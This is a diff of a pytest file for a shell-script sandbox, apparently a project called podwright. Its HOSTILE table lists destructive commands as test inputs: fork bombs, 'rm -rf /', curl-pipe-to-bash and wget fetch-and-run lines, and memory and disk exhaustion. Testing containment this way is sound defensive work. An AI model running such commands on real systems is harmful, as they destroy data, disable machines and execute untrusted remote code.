@@ -5,6 +5,7 @@ import os
 import re
 import shutil
 import signal
+import sys
 import tempfile
 import time
 from collections.abc import Iterator
@@ -12,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from podwright.sandbox import evaluation
+from podwright.sandbox import stage
 from podwright.sandbox.evaluation import Evaluated, evaluate
 from podwright.shell import Shell
 from tests.unit.sandbox import namespaces
@@ -78,6 +79,7 @@ def contained(home: Path) -> Iterator[None]:
         home,
         'xpk "$(ls -A $REAL $CHECKOUT /root /work 2> /dev/null)" "$(ulimit -u)" "$(id -u)" "$(ls /proc | grep -c "^[0-9]")"'
         ' "$(grep -c : /proc/net/dev)" "$(grep CapEff /proc/self/status)"',
+        limit_s=10,
     )
     (call,) = result.calls
     assert call.argv[1:4] == ("", "64", "1000") and int(call.argv[4]) < 10 and call.argv[5] == "1", call
@@ -92,13 +94,13 @@ HOSTILE = {
     "fork bomb of perl": ("exec perl -e 'while (1) { fork }'", TIME),
     "rm -rf /": ("rm -rf --no-preserve-root / > /dev/null 2>&1; rm -rf $REAL $CHECKOUT", f"{TIME}|"),
     "rm -rf $HOME": ("rm -rf $HOME ~ $REAL", "ended with exit code 1: rm: .*"),
-    "curl | bash": ("curl -s https://example.com/x | bash\nbash <(wget -qO- x)\n$(command -v /usr/bin/curl) -m 2 http://1.1.1.1", "|ended with exit code 7.*"),
+    "curl | bash": ("curl -s https://example.com/x | bash\nbash <(wget -qO- x)\n$(command -v /usr/bin/curl) -m 2 http://1.1.1.1", "ended with exit code (7|127).*"),
     "endless loop": ("while :; do :; done", TIME),
     "endless output": ("yes", "wrote more than 4 MiB .*"),
     "endless calls": ("while :; do xpk x; done", f"{TIME}|called programs more than 500 times"),
-    "all memory in one process": ("x=$(head -c 3G /dev/zero | tr '\\0' a)", "used more than 512 MiB of memory|.*"),
-    "all memory in many": ("for i in 1 2 3 4 5 6 7 8; do perl -e '$x = \"a\" x 2e8; sleep 60606' & done; wait", "used more than 512 MiB of memory"),
-    "full disk": ("for i in {1..9999}; do head -c 4M /dev/zero > ~/$i || break; done\nfor i in {1..9999}; do : > /tmp/$i || break; done", "|ended .*"),
+    "all memory in one process": ("x=$(head -c 3G /dev/zero | tr '\\0' a)", "used more than 512 MiB of memory|ended with .*|" + TIME),
+    "all memory in many": ("for i in 1 2 3 4 5 6 7 8; do perl -e '$x = \"a\" x 2e8; sleep 60606' & done; wait", "used more than 512 MiB of memory|" + TIME),
+    "full disk": ("for i in {1..9999}; do head -c 4M /dev/zero > ~/$i || break; done\nfor i in {1..9999}; do : > /tmp/$i || break; done", "|ended .*|" + TIME),
     "writes to $HOME": ("echo x > $REAL/.bashrc; echo x >> ~/.bashrc; mkdir -p $REAL/x; echo x > $CHECKOUT/README.md", "ended with exit code 1.*"),
     "a background process": ("nohup setsid sh -c 'exec -a 60606 /bin/sleep 60606' & disown\n(/bin/sleep 60606 &)", "left processes running in the background"),
     "traps": ("trap '' TERM INT HUP EXIT; /bin/sleep 60606", TIME),
@@ -139,6 +141,16 @@ def test_calls_before_an_endless_loop_are_kept(home: Path) -> None:
     assert [call.argv[-1] for call in result.workloads()] == ["a"] and result.exit_code is None
 
 
+@pytest.fixture
+def temporary(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """Another place for temporary files, of which a killed process leaves some."""
+    with tempfile.TemporaryDirectory() as folder:
+        os.chmod(folder, 0o755)
+        monkeypatch.setattr(tempfile, "tempdir", folder)
+        yield
+
+
+@pytest.mark.usefixtures("temporary")
 def test_one_that_is_ended_from_outside_takes_all_with_it(home: Path) -> None:
     script = home.parent / "hostile.sh"
     script.write_text("(setsid /bin/sleep 60606 &)\n/bin/sleep 60606")
@@ -163,11 +175,11 @@ def test_one_that_is_ended_from_outside_takes_all_with_it(home: Path) -> None:
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="the other tests have run as an ordinary user")
 def test_an_ordinary_user_has_the_same_sandbox(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Root becomes nobody for it; any other user stays who it is."""
+    """Root becomes another user for it; any other user stays who it is."""
     with tempfile.TemporaryDirectory() as folder:
         os.chmod(folder, 0o755)
-        shutil.copytree(evaluation.HERE, f"{folder}/sandbox")
-        monkeypatch.setattr(evaluation, "HERE", Path(f"{folder}/sandbox"))
+        shutil.copytree(stage.HERE, f"{folder}/sandbox")
+        monkeypatch.setattr(stage, "HERE", Path(f"{folder}/sandbox"))
         script = Path(folder, "hostile.sh")
         script.write_text("xpk $(id -u) $(ulimit -u) $(ls -d /root /work 2> /dev/null)\n:(){ :|:& };:\n")
         reading, writing = os.pipe()
@@ -183,3 +195,23 @@ def test_an_ordinary_user_has_the_same_sandbox(monkeypatch: pytest.MonkeyPatch) 
             result = answer.read()
         os.waitpid(pid, 0)
     assert "('xpk', '1000', '64')" in result and "why_not=''" in result and "problem='/" in result, result
+
+
+@pytest.mark.parametrize(("limit", "sandboxed"), [("0", "False"), ("100", "True")])
+def test_in_a_namespace_with_a_single_user_the_kernel_decides(home: Path, limit: str, sandboxed: str) -> None:
+    """As in a container without rights. Where no namespace can be made, nothing is run and the reason is given."""
+    script = home.parent / "hostile.sh"
+    script.write_text("touch $HOME/x; xpk a")
+    program = (
+        "import sys; from pathlib import Path; from podwright.sandbox.evaluation import evaluate; from podwright.shell import Shell; "
+        "e = evaluate(Path(sys.argv[1]), {}, Shell()); print(e.sandboxed, len(e.calls), e.why_not)"
+    )
+    inner = f'echo {limit} > /proc/sys/user/max_user_namespaces && exec "$@"'
+    argv = ["unshare", "-Ur", "sh", "-c", inner, "sh", sys.executable, "-c", program, str(script)]
+    code, out, errors = Shell().ask(argv, cwd=ROOT)
+    assert code == 0, errors
+    words = out.split(maxsplit=2)
+    assert words[:2] == [sandboxed, "1" if sandboxed == "True" else "0"], out
+    assert (words[2:] == []) == (sandboxed == "True")
+    if sandboxed == "False":
+        assert words[2].startswith("this machine allows no sandbox: unshare: ")
